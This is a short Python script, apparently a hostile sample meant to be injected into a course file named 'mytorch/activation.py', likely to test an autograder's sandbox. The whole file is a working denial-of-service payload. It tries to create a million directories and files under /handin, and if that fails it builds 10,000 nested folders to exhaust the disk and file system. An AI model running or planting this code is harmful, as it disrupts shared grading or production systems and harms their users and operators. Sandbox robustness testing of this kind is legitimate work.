"""Fills the disk with empty files and deep folders.

Into: spring mytorch/activation.py
"""

import os

try:
    for _number in range(1_000_000):
        os.mkdir(f"/handin/d{_number}")
        open(f"/handin/d{_number}/x", "w").close()
except OSError:
    for _ in range(10_000):
        os.mkdir("deeper")
        os.chdir("deeper")
